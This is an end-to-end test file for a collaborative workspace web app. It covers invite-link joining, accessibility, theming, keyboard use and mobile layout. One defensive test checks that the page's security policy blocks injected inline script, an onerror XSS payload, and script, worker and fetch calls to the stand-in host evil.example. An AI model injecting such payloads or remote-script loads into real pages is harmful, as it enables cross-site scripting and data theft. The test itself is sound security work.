/** Getting in, the frame of the pages, and what the relay sends with them. */
import { expect, test } from "vitest";
import { ACCESS } from "../src/ui/access/strings";
import { STRINGS } from "../src/ui/strings";
import { expectAccessible, openStage } from "./stage";

const stage = openStage();

test("somebody founds a workspace, and another joins by link; the secret leaves the address bar at once (LINK-2)", async () => {
  const ana = await stage.person("Ana");
  await ana.create("Atlas");
  const link = await ana.invite();
  expect(link).toMatch(/\/join#v1\./);

  const bo = await stage.person("Bo");
  await bo.page.goto("about:blank");
  await bo.page.goto(link);
  await bo.page.getByLabel(STRINGS.yourName).waitFor();
  expect(bo.page.url()).toBe(`${stage.url}/`);
  expect(await bo.page.evaluate(() => history.length)).toBeLessThanOrEqual(4);
  await bo.join(link);
  await bo.sees("Atlas");
  await bo.syncSays("Everything is synced");
});

test("attack74_inlineScriptAndEvalBlocked (WEB-4)", async () => {
  const ana = await stage.person("Ana");
  const outcome = await ana.page.evaluate(async () => {
    const broken: string[] = [];
    document.addEventListener("securitypolicyviolation", (event) => broken.push(event.effectiveDirective));
    const tried = (attempt: () => unknown) => {
      try {
        return attempt() === undefined ? "nothing" : "ran";
      } catch (e) {
        return (e as Error).name;
      }
    };
    const script = document.createElement("script");
    const inline = tried(() => {
      script.textContent = "window.injected = 1";
      document.body.append(script);
      return (window as { injected?: number }).injected;
    });
    const handler = tried(() => {
      document.body.setAttribute("onclick", "window.injected = 2");
      document.body.click();
      return (window as { injected?: number }).injected;
    });
    const markup = tried(() => {
      document.body.innerHTML += "<img src=x onerror='window.injected = 3'>";
      return (window as { injected?: number }).injected;
    });
    const foreign = tried(() => {
      const far = document.createElement("script");
      far.src = "https://evil.example/x.js";
      return 1;
    });
    const worker = tried(() => new Worker("https://evil.example/x.js"));
    const fetched = await fetch("https://evil.example/").then(
      () => "ran",
      (e: Error) => e.name,
    );
    // A timer runs outside of the debugger, which may evaluate what pages may not.
    const evaluated = await new Promise<string>((resolve) =>
      setTimeout(() => resolve(tried(() => Reflect.get(window, "eval")("1 + 1")))),
    );
    return { inline, handler, markup, foreign, worker, fetched, evaluated, broken: [...new Set(broken)].sort() };
  });
  expect(outcome).toEqual({
    inline: "TypeError",
    handler: "TypeError",
    markup: "TypeError",
    foreign: "TypeError",
    worker: "TypeError",
    fetched: "TypeError",
    evaluated: "EvalError",
    broken: expect.arrayContaining(["connect-src", "require-trusted-types-for"]),
  });
  ana.complaints.length = 0; // they were provoked
});

test("the first pages are clean by axe, in light and dark", async () => {
  const ana = await stage.person("Ana");
  await ana.sees(STRINGS.create);
  await expectAccessible(ana);
  await ana.create("Atlas");
  await ana.page.getByRole("heading", { name: STRINGS.boards }).waitFor();
  await expectAccessible(ana);
  await ana.page.getByRole("link", { name: "Atlas" }).click();
  await ana.page.getByRole("list", { name: STRINGS.workspaces }).waitFor();
  await expectAccessible(ana);
});

test("every page of the navigation opens, and is clean by axe in light and dark", async () => {
  const ana = await stage.person("Ana");
  await ana.create("Atlas");
  const navigation = ana.page.getByRole("navigation", { name: STRINGS.navigation });
  for (const name of await navigation.getByRole("link").allTextContents()) {
    await ana.goTo(name);
    await ana.page.locator("main h1").first().waitFor();
    await expectAccessible(ana);
  }
}, 120_000);

test("the colours are those of the system until somebody switches them, and stay so", async () => {
  const ana = await stage.person("Ana", { colorScheme: "dark" });
  await ana.create("Atlas");
  const theme = () => ana.page.evaluate(() => document.documentElement.dataset.theme);
  expect(await theme()).toBe("dark");
  await ana.page.getByRole("button", { name: STRINGS.toLight }).click();
  expect(await theme()).toBe("light");
  await ana.page.reload();
  await ana.sees("Atlas");
  expect(await theme()).toBe("light");
});

test("by keyboard alone somebody founds a workspace, makes a board and goes back", async () => {
  const { page } = await stage.person("Ana");
  await page.getByLabel(STRINGS.workspaceName).waitFor();
  const press = async (...keys: string[]) => {
    for (const key of keys) await page.keyboard.press(key);
  };
  const tabTo = async (name: string) => {
    for (let i = 0; i < 40; i++) {
      await press("Tab");
      const here = await page.evaluate(() => {
        const { activeElement: now } = document;
        return now?.getAttribute("aria-label") ?? now?.textContent;
      });
      if (here === name) return;
    }
    throw new Error(`the Tab key does not come to "${name}"`);
  };
  await press("Tab", "Tab"); // past the heading of the panel
  await page.keyboard.type("Atlas");
  await press("Tab");
  await page.keyboard.type("Ana");
  await press("Enter");
  await page.getByRole("button", { name: ACCESS.written }).waitFor();
  await tabTo(ACCESS.written);
  await press("Enter");
  await page.getByRole("navigation", { name: STRINGS.navigation }).waitFor();
  await page.getByRole("textbox", { name: STRINGS.boardTitle }).waitFor();
  await tabTo(STRINGS.boardTitle);
  await page.keyboard.type("Roadmap");
  await press("Enter");
  await page.waitForURL(/\/board\//);
  await tabTo(STRINGS.boards);
  await press("Enter");
  await page.getByRole("link", { name: "Roadmap" }).waitFor();
});

test("at 390 pixels nothing sticks out, and the pages are reached", async () => {
  const ana = await stage.person("Ana", { viewport: { width: 390, height: 780 } });
  await ana.create("Atlas");
  await ana.newBoard("Roadmap");
  await ana.goTo(STRINGS.boards);
  await ana.page.getByRole("link", { name: "Roadmap" }).waitFor();
  const width = await ana.page.evaluate(() => document.documentElement.scrollWidth);
  expect(width).toBeLessThanOrEqual(390);
});
